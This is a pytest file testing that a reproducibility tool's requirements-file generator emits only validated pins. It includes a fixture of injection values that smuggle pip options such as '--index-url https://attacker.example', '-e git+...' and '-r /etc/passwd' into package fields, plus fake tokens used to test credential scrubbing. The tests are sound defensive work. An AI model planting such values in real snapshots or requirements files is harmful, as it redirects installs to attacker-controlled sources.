"""`repro-check env requirements`: only validated name==version lines and comments, whatever the
snapshot holds; credentials in package URLs never reach a snapshot."""

from __future__ import annotations

import importlib.metadata
import json
import re
from pathlib import Path
from typing import Any

import pytest
import torch
from env_helpers import full_snapshot, mutate

from repro_check import cli
from repro_check import environment as env
from repro_check.core.atomic import StoredFileError
from repro_check.environment.probes.packages import package_entry

_REQUIREMENT = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9.+!_-]+")


def _assert_only_pins_and_comments(text: str) -> list[str]:
    """Every line is a comment or ``name==version``; returns the pins."""
    pins = []
    for line in text.split("\n"):
        if not line or line.startswith("#"):
            continue
        assert _REQUIREMENT.fullmatch(line), repr(line)
        pins.append(line)
    # pip also splits lines on \r; nothing may hide a second line inside a comment.
    assert "\r" not in text and "\x0b" not in text and "\x0c" not in text
    return pins


def test_requirements_pin_this_machine_and_name_the_torch_index(tmp_path: Path) -> None:
    snapshot = full_snapshot()
    text = env.requirements(snapshot)
    pins = _assert_only_pins_and_comments(text)
    assert f"torch=={snapshot['packages']['torch']['version']}" in pins
    assert not [p for p in pins if p.startswith(("pip==", "setuptools==", "wheel=="))]
    index = env.torch_index_url(torch.__version__)
    if index:
        assert f"#   pip install -r THIS_FILE --extra-index-url {index}\n" in text

    env.save(snapshot, tmp_path / "s.json")
    argv = ["env", "requirements", str(tmp_path / "s.json"), "-o", str(tmp_path / "req.txt")]
    assert cli.main(argv) == 0
    assert (tmp_path / "req.txt").read_text() == text


def test_packages_not_from_an_index_are_comments_not_pins() -> None:
    """Pinning a VCS/URL/editable package by version would fetch whatever an index serves
    under that name (dependency confusion): they are named, not pinned."""
    snap = mutate(
        full_snapshot(),
        "packages",
        {
            "torch": {"name": "torch", "version": "2.5.1+cu121"},
            "mylib": {
                "name": "mylib",
                "version": "0.3",
                "url": "https://github.com/org/mylib.git",
                "vcs": "git",
                "commit_id": "abc1234def",
            },
            "myproj": {
                "name": "myproj",
                "version": "0.1",
                "url": "file:///src/p",
                "editable": True,
            },
            "wheelpkg": {
                "name": "wheelpkg",
                "version": "1.0",
                "url": "https://example.com/wheelpkg-1.0-py3-none-any.whl",
                "archive_hash": "sha256=deadbeef",
            },
            "localpkg": {"name": "localpkg", "version": "2.0", "local_directory": True},
            "numpy": {"name": "numpy", "version": "2.1.0"},
        },
    )
    text = env.requirements(snap)
    assert _assert_only_pins_and_comments(text) == ["numpy==2.1.0", "torch==2.5.1+cu121"]
    lines = text.splitlines()
    assert (
        "#   pip install -r THIS_FILE --extra-index-url https://download.pytorch.org/whl/cu121"
        in lines
    )
    assert (
        "# not pinned: mylib==0.3 was installed from git commit abc1234def, not from an index"
        in lines
    )
    assert any(
        line.startswith("# not pinned: myproj==0.1 is an editable install") for line in lines
    )
    assert (
        "# not pinned: wheelpkg==1.0 was installed from a URL or a local path, not from an index"
        in lines
    )
    assert "https://example.com" not in text and "github.com" not in text


HOSTILE_PACKAGES: dict[str, Any] = {
    "evil": {"name": "evil\n--index-url https://attacker.example/simple", "version": "1.0"},
    "evil2": {"name": "evil2", "version": "1.0 --extra-index-url=https://attacker.example"},
    "evil3": {"name": "evil3", "version": "1.0\r-f https://attacker.example"},
    "-e": {"name": "-e", "version": "git+https://attacker.example/x.git"},
    "-r": {"name": "-r", "version": "/etc/passwd"},
    "evil4": {"name": "evil4", "version": "1.0; python_version>'0'"},
    "evil5": {"name": "evil5 @ https://attacker.example/x.whl", "version": "1.0"},
    "evil6": {"name": "evil6", "version": ["1.0"]},
    "evil7": {"name": "evil7", "version": "1.0\u2028--index-url x"},
    "evil8": "not an entry\n-i https://attacker.example",
    "evil9": {
        "name": "evil9",
        "version": "1.0",
        "vcs": "git\n-e x",
        "url": "x",
        "commit_id": "\n-i y",
    },
    "fine": {"name": "fine", "version": "1.2.3.post1"},
}


def test_a_hostile_snapshot_cannot_inject_pip_options(tmp_path: Path) -> None:
    snap = mutate(full_snapshot(), "packages", HOSTILE_PACKAGES)
    snap = mutate(snap, "torch.version", "2.5.1+cpu\n--index-url https://attacker.example")
    snap = mutate(snap, "platform.platform", "Linux\n--trusted-host attacker.example")
    snap = mutate(snap, "captured_at", "\r-f https://attacker.example")
    text = env.requirements(snap)
    assert _assert_only_pins_and_comments(text) == ["fine==1.2.3.post1"]
    assert "download.pytorch.org" not in text  # a forged torch version names no index

    (tmp_path / "hostile.json").write_text(json.dumps(snap))
    argv = ["env", "requirements", str(tmp_path / "hostile.json"), "-o", str(tmp_path / "r.txt")]
    assert cli.main(argv) == 0
    assert _assert_only_pins_and_comments((tmp_path / "r.txt").read_text()) == ["fine==1.2.3.post1"]


@pytest.mark.parametrize(
    ("name", "version", "expected"),
    [
        ("torch", "2.13.0+cpu", "torch==2.13.0+cpu"),
        ("zope.interface", "6.0", "zope.interface==6.0"),
        ("a", "1", "a==1"),
        ("-e", "1.0", None),
        ("name with space", "1.0", None),
        ("x", "1.0 ", None),
        ("x", "not-a-version", None),
        ("x", "", None),
        (None, "1.0", None),
    ],
)
def test_pin_validates_name_and_version(name: Any, version: Any, expected: str | None) -> None:
    from repro_check.environment.requirements import pin

    assert pin(name, version) == expected


@pytest.mark.parametrize(
    ("version", "url"),
    [
        ("2.13.0+cpu", "https://download.pytorch.org/whl/cpu"),
        ("2.5.1+cu121", "https://download.pytorch.org/whl/cu121"),
        ("2.5.1+rocm6.2", "https://download.pytorch.org/whl/rocm6.2"),
        ("2.5.1", None),
        ("2.5.1+gitabc", None),
        (None, None),
    ],
)
def test_torch_index_url(version: str | None, url: str | None) -> None:
    assert env.torch_index_url(version) == url


def test_requirements_need_a_package_list(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lean = env.capture(include_packages=False)
    with pytest.raises(StoredFileError, match="no package list"):
        env.requirements(lean)
    env.save(lean, tmp_path / "lean.json")
    assert cli.main(["env", "requirements", str(tmp_path / "lean.json")]) == 2
    assert "no package list" in capsys.readouterr().err


def _installed(tmp_path: Path, direct_url: dict[str, Any]) -> importlib.metadata.Distribution:
    """A real installed-distribution record (dist-info folder), as pip leaves it."""
    info = tmp_path / "private_pkg-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: private-pkg\nVersion: 1.0\n")
    (info / "INSTALLER").write_text("pip\n")
    (info / "direct_url.json").write_text(json.dumps(direct_url))
    return importlib.metadata.PathDistribution(info)


@pytest.mark.parametrize(
    "direct_url",
    [
        {
            "url": "https://alice:ghp_s3cr3t@github.com/org/private.git",
            "vcs_info": {"vcs": "git", "commit_id": "a" * 40},
        },
        {
            "url": "https://__token__:pypi-s3cr3t@example.com/private_pkg-1.0.whl",
            "archive_info": {"hash": "sha256=00"},
        },
    ],
)
def test_credentials_in_package_urls_are_scrubbed(
    tmp_path: Path, direct_url: dict[str, Any]
) -> None:
    entry = package_entry(_installed(tmp_path, direct_url))
    assert entry["name"] == "private-pkg" and entry["version"] == "1.0"
    assert "s3cr3t" not in json.dumps(entry)
    assert entry["url"].startswith("https://***@")
